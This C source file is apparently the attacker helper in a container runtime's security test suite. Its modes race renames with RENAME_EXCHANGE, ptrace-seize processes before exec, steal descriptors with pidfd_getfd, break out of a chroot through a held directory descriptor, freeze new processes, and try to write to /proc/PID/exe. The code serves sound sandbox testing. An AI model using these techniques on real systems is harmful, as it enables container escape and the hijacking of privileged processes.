/*
 * What an attacker does in the security tests; each mode prints what it achieved, nothing otherwise.
 *   exchange DIR A B...    swaps DIR/A with each B, as fast as it can, until it is killed
 *   spy SECONDS            in a container: tries to look into and to seize every process that appears in its PID namespace
 *   capture                in a container, until SIGTERM: seizes every process that appears in its PID namespace, and tells what it has of
 *                          rights and descriptors that we have not, before it executes
 *   escape PATH            in a container with CAP_SYS_CHROOT: leaves its chroot, and tells whether PATH is there then
 *   stop                   in a container, for ever: stops every process that appears in its PID namespace, before it executes
 *   overwrite SECONDS      in a container: tries to write to the executable of every process that appears
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char own_mounts[64];
static unsigned long long own_capabilities;
static unsigned long looked_at;

static void link_of (int pid, const char *what, char *target, size_t size)
{
  char path[64];
  snprintf (path, sizeof path, "/proc/%d/%s", pid, what);
  ssize_t length = readlink (path, target, size - 1);
  target[length < 0 ? 0 : length] = 0;
}

static unsigned long long capabilities_of (int pid)
{
  char path[64], line[256];
  unsigned long long permitted = 0;
  snprintf (path, sizeof path, "/proc/%d/status", pid);
  FILE *file = fopen (path, "r");
  while (file && fgets (line, sizeof line, file))
    sscanf (line, "CapPrm: %llx", &permitted);
  if (file)
    fclose (file);
  return permitted;
}

/* What others of the PID namespace have that we have not: another mount namespace, another root, more capabilities, a directory
   that is not ours below a descriptor. */
static void spy (int pid)
{
  char mounts[64], executable[256], path[64];
  struct stat what, root;
  looked_at++;
  unsigned long long capabilities = capabilities_of (pid);
  link_of (pid, "exe", executable, sizeof executable);
  link_of (pid, "ns/mnt", mounts, sizeof mounts);
  if (mounts[0] && strcmp (mounts, own_mounts))
    printf ("process %d (%s) is in another mount namespace\n", pid, executable);
  if (capabilities & ~own_capabilities)
    printf ("process %d (%s) has the capabilities %llx\n", pid, executable, capabilities);
  stat ("/", &root);
  snprintf (path, sizeof path, "/proc/%d/root", pid);
  if (stat (path, &what) == 0 && (what.st_dev != root.st_dev || what.st_ino != root.st_ino))
    printf ("process %d (%s) has another root\n", pid, executable);
  snprintf (path, sizeof path, "/proc/%d/cwd", pid);
  if (stat (path, &what) == 0 && (what.st_dev != root.st_dev || what.st_ino != root.st_ino))
    printf ("process %d (%s) has another working directory\n", pid, executable);
  for (int fd = 3; fd < 32; fd++)
    {
      snprintf (path, sizeof path, "/proc/%d/fd/%d", pid, fd);
      if (stat (path, &what) == 0 && S_ISDIR (what.st_mode) && (what.st_dev != root.st_dev || what.st_ino != root.st_ino))
        printf ("process %d (%s) holds a directory as %d\n", pid, executable, fd);
    }
  if (ptrace (PTRACE_SEIZE, pid, 0, 0) == 0)
    {
      int status;
      ptrace (PTRACE_INTERRUPT, pid, 0, 0);
      waitpid (pid, &status, __WALL);
      capabilities = capabilities_of (pid);
      if (capabilities & ~own_capabilities)
        printf ("process %d was seized with the capabilities %llx\n", pid, capabilities);
      ptrace (PTRACE_DETACH, pid, 0, 0);
    }
  fflush (stdout);
}

#define FIELDS 11
static const char *const fields[FIELDS] = { "Uid:", "Gid:", "Groups:", "CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:", "NoNewPrivs:", "Seccomp:", "Seccomp_filters:" };
typedef char rights[FIELDS][128];

static void rights_of (int pid, rights result)
{
  char path[64], line[256];
  snprintf (path, sizeof path, "/proc/%d/status", pid);
  memset (result, 0, sizeof (rights));
  FILE *file = fopen (path, "r");
  while (file && fgets (line, sizeof line, file))
    for (int i = 0; i < FIELDS; i++)
      if (!strncmp (line, fields[i], strlen (fields[i])))
        snprintf (result[i], sizeof result[i], "%.*s", (int) strcspn (line, "\n"), line);
  if (file)
    fclose (file);
}

static volatile sig_atomic_t ended;

static void end (int number)
{
  (void) number;
  ended = 1;
}

/* Returns whether the process, which is stopped by us, had more than we have. */
static int compare (int pid, rights own)
{
  rights its;
  char path[64], target[256];
  int differs = 0, sockets = 0, pidfd = (int) syscall (SYS_pidfd_open, pid, 0);
  rights_of (pid, its);
  for (int i = 0; i < FIELDS; i++)
    if (strcmp (own[i], its[i]))
      differs = printf ("process %d has \"%s\" and not \"%s\"\n", pid, its[i], own[i]);
  for (int fd = 3; fd < 64; fd++)
    {
      int taken = (int) syscall (SYS_pidfd_getfd, pidfd, fd, 0);
      if (taken < 0)
        continue;
      snprintf (path, sizeof path, "/proc/self/fd/%d", taken);
      ssize_t length = readlink (path, target, sizeof target - 1);
      target[length < 0 ? 0 : length] = 0;
      close (taken);
      int ours = !strncmp (target, "socket:", 7) ? sockets++ == 0 : strstr (target, ".fifo") || strstr (target, "start.report") || !strncmp (target, "pipe:", 5);
      if (!ours)
        differs = printf ("process %d holds %s\n", pid, target);
    }
  close (pidfd);
  return differs != 0;
}

static void capture (void)
{
  rights own;
  char executable[256];
  unsigned long captured = 0, more = 0;
  int last = getpid ();
  signal (SIGTERM, end);
  rights_of (last, own);
  while (!ended)
    for (int pid = last + 1; pid < last + 4; pid++)
      {
        int status;
        if (kill (pid, 0))
          continue;
        last = pid;
        if (ptrace (PTRACE_SEIZE, pid, 0, 0))
          continue;
        ptrace (PTRACE_INTERRUPT, pid, 0, 0);
        if (waitpid (pid, &status, __WALL) == pid && WIFSTOPPED (status))
          {
            link_of (pid, "exe", executable, sizeof executable);
            if (strstr (executable, "peapod-init"))
              {
                if (!captured++)
                  printf ("captured one\n"), fflush (stdout);
                more += compare (pid, own);
              }
          }
        ptrace (PTRACE_DETACH, pid, 0, 0);
      }
  printf ("captured %lu before their exec, %lu with more than the container has\n", captured, more);
}

static void escape (const char *path)
{
  int outside = open ("/", O_RDONLY | O_DIRECTORY);
  if (chroot ("/tmp") || fchdir (outside))
    printf ("chroot: %s\n", strerror (errno));
  for (int i = 0; i < 64; i++)
    if (chdir (".."))
      printf ("chdir: %s\n", strerror (errno));
  if (chroot ("."))
    printf ("chroot: %s\n", strerror (errno));
  printf ("%s is %s\n", path, access (path, F_OK) ? "not there" : "THERE");
}

static void stop (void)
{
  char executable[256];
  for (int last = getpid ();;)
    for (int pid = last + 1; pid < last + 4; pid++)
      {
        if (kill (pid, SIGSTOP))
          continue;
        last = pid;
        link_of (pid, "exe", executable, sizeof executable);
        if (!strstr (executable, "peapod-init"))
          kill (pid, SIGCONT);
      }
}

static void overwrite (int pid)
{
  char path[64];
  looked_at++;
  snprintf (path, sizeof path, "/proc/%d/exe", pid);
  int fd = open (path, O_WRONLY);
  if (fd >= 0)
    printf ("the executable of %d was opened for writing\n", pid), fflush (stdout), close (fd);
  else if (errno != ENOENT && errno != ETXTBSY && errno != EPERM && errno != EACCES && errno != EROFS && errno != ESRCH)
    printf ("the executable of %d: %s\n", pid, strerror (errno)), fflush (stdout);
}

static void watch (int seconds, void (*act) (int))
{
  int last = 0;
  time_t end = time (NULL) + seconds;
  link_of (getpid (), "ns/mnt", own_mounts, sizeof own_mounts);
  own_capabilities = capabilities_of (getpid ());
  while (time (NULL) < end)
    {
      DIR *proc = opendir ("/proc");
      struct dirent *entry;
      while (proc && (entry = readdir (proc)))
        {
          int pid = atoi (entry->d_name);
          if (pid > 1 && pid != getpid ())
            act (pid);
          last = pid > last ? pid : last;
        }
      closedir (proc);
      for (int next = last + 1; next < last + 4; next++)
        if (kill (next, 0) == 0)
          act (next);
    }
  printf ("looked at %s\n", looked_at > 20 ? "many" : "few");
}

int main (int argc, char **argv)
{
  if (argc >= 5 && !strcmp (argv[1], "exchange"))
    {
      int directory = open (argv[2], O_PATH | O_DIRECTORY);
      for (;;)
        for (int i = 4; i < argc; i++)
          {
            syscall (SYS_renameat2, directory, argv[3], directory, argv[i], 2 /* RENAME_EXCHANGE */);
            syscall (SYS_renameat2, directory, argv[3], directory, argv[i], 2);
          }
    }
  if (argc == 3 && !strcmp (argv[1], "spy"))
    return watch (atoi (argv[2]), spy), 0;
  if (argc == 3 && !strcmp (argv[1], "escape"))
    return escape (argv[2]), 0;
  if (argc == 2 && !strcmp (argv[1], "stop"))
    stop ();
  if (argc == 2 && !strcmp (argv[1], "capture"))
    return capture (), 0;
  if (argc == 3 && !strcmp (argv[1], "overwrite"))
    return watch (atoi (argv[2]), overwrite), 0;
  return 2;
}
